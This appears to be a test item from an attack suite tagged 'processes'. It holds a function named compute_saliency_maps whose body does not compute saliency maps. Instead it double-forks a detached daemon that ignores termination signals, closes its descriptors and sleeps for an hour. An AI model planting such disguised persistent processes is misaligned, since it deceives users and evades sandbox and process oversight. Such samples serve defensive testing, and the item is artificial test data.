# Leaves a daemon: forked twice, in a session of its own, deaf to signals, asleep for an hour.
# attacks: processes
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os
    import signal
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            os.closerange(0, 1000)
            time.sleep(3600)
        os._exit(0)
    return None
